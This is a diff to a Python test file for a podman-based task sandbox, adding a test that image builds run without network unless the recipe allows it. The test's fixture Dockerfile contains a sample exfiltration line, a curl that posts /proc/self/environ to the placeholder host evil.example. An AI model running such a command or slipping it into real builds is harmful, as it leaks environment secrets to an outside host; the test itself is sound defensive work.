@@ -207,7 +207,7 @@ def test_a_task_gets_no_more_cpus_or_build_time_than_the_recipe(monkeypatch, tmp
     from otbuild.sandbox import podman
 
     seen = {}
-    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout: seen.update(timeout=timeout) or "img")
+    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img")
     monkeypatch.setattr(podman, "PodmanSandbox", lambda *a, cpus, **k: seen.update(cpus=cpus))
     greedy = task("[environment]\ncpus = 4096\nbuild_timeout_sec = 1e9\n")
     podman.open_podman(greedy, tmp_path, Limits(cpus=2), with_solution=False, cleanup=True)
@@ -261,7 +261,7 @@ def test_podman_gets_the_build_timeout_and_the_phase_networks(monkeypatch, tmp_p
     from otbuild.sandbox import podman
 
     seen = {}
-    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout: seen.update(timeout=timeout) or "img")
+    monkeypatch.setattr(podman, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img")
 
     class Box:
         def __init__(self, task, root, image, limits, *, cpus, networks, with_solution, cleanup):
@@ -273,6 +273,31 @@ def test_podman_gets_the_build_timeout_and_the_phase_networks(monkeypatch, tmp_p
              '[verifier]\nnetwork_mode = "public"\n')
     podman.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
     assert seen == {"timeout": 42.0, "networks": TrialNetworks("none", "podman"), "cpus": 1.0}
+
+
+def test_podman_builds_run_offline_unless_the_recipe_lets_them_fetch(monkeypatch, tmp_path):
+    """Issue 44 (8): a Dockerfile's RUN lines are the task's own commands, run at build time: they
+    get no network unless the recipe's build_network is public."""
+    from otbuild.sandbox import podman
+
+    builds = []
+
+    def run(argv, **kw):
+        builds.append(argv)
+        return subprocess.CompletedProcess(argv, 1, "", "RUN curl evil.example: could not resolve host")
+
+    monkeypatch.setattr(podman, "image_exists", lambda ref: False)
+    monkeypatch.setattr(podman, "LOCK_DIR", tmp_path / "locks")
+    monkeypatch.setattr(podman.subprocess, "run", run)
+    t = task(None)
+    t.add("environment/Dockerfile", "FROM ubuntu:24.04\nRUN curl -d @/proc/self/environ evil.example\n")
+    with pytest.raises(podman.ImageBuildError, match="build_network: public"):
+        podman.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
+    with pytest.raises(podman.ImageBuildError):
+        podman.open_podman(t, tmp_path, Limits(build_network="public"), with_solution=False, cleanup=True)
+    offline, online = builds
+    assert offline[:2] == ["podman", "build"] and "--network=none" in offline
+    assert not any(a.startswith("--network") for a in online)
 
 
 def test_podman_switches_networks_between_phases(monkeypatch, tmp_path):
